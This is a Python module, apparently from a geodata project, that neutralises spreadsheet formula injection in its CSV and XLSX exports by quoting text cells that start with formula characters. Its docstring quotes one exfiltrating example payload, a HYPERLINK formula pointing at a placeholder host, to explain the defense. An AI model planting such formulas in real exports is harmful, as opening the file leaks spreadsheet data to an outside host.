r"""Formula-injection guard for every CSV and XLSX table qyx_geo writes.

A register name or id such as ``=HYPERLINK("http://x/?"&A1)`` or ``@SUM(A1)`` is inert text in
qyx_geo, but a spreadsheet opening the exported CSV/XLSX runs it as a formula (CWE-1236). Every
tabular writer (audit tables, intake report, siting tables) passes its frame through
:func:`safe_table` just before ``to_csv``/``to_excel``; it applies the OWASP rule (ASVS 1.2.10):
a text cell whose first character is ``=``, ``+``, ``-``, ``@``, tab, carriage return or NUL is
prefixed with a single quote, which shows the value as typed and is never evaluated. Numbers
stay numbers (a negative capacity is a number, not text), so only text cells change.

CSV files are written by :func:`write_csv` with CRLF line ends (RFC 4180): Python's csv module
quotes a field only when it holds a character of the line terminator, so with ``\n`` alone a
bare carriage return inside a name would end the row in Excel and start a new, unguarded cell.
"""

from __future__ import annotations

import os
from typing import IO, Any

import pandas as pd

__all__ = ["FORMULA_PREFIXES", "safe_cell", "safe_table", "write_csv"]

#: First characters that make a spreadsheet read a text cell as a formula (OWASP / ASVS 1.2.10).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\0")


def safe_cell(value: Any) -> Any:
    """Return ``value`` with a leading ``'`` if it is text a spreadsheet would run as a formula.

    Examples
    --------
    >>> safe_cell("=1+1"), safe_cell("-12"), safe_cell("助餐点"), safe_cell(-12.0)
    ("'=1+1", "'-12", '助餐点', -12.0)
    """
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def _safe_index(index: pd.Index) -> pd.Index:
    if isinstance(index, pd.MultiIndex):
        return index.set_levels([_safe_index(level) for level in index.levels])
    if index.dtype.kind in "OSU" or isinstance(index.dtype, pd.StringDtype):
        index = index.map(safe_cell)
    return index.rename(safe_cell(index.name)) if index.nlevels == 1 else index


def safe_table(frame: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of ``frame`` whose text cells, index and headers cannot run as formulas.

    Only text values change (see :func:`safe_cell`); numeric, boolean and missing cells keep
    their type, so the written tables stay numeric where they were. The input is not modified.
    """
    out = frame.copy()
    for pos in range(out.shape[1]):
        column = out.iloc[:, pos]
        if column.dtype.kind == "O" or isinstance(column.dtype, pd.StringDtype
                                                  | pd.CategoricalDtype):
            out.isetitem(pos, column.map(safe_cell))
    out.index = _safe_index(out.index)
    out.columns = _safe_index(out.columns)
    return out


def write_csv(frame: pd.DataFrame, target: str | os.PathLike[str] | IO[str], *,
              index: bool = True, encoding: str = "utf-8-sig") -> None:
    """Write ``frame`` as CSV for spreadsheets: guarded cells, CRLF rows, UTF-8 with BOM.

    ``target`` is a path or a text file opened with ``newline=""``. Every field holding a
    line break is quoted (RFC 4180), so a cell can never spill into a new row.
    """
    safe_table(frame).to_csv(target, index=index, encoding=encoding, lineterminator="\r\n")
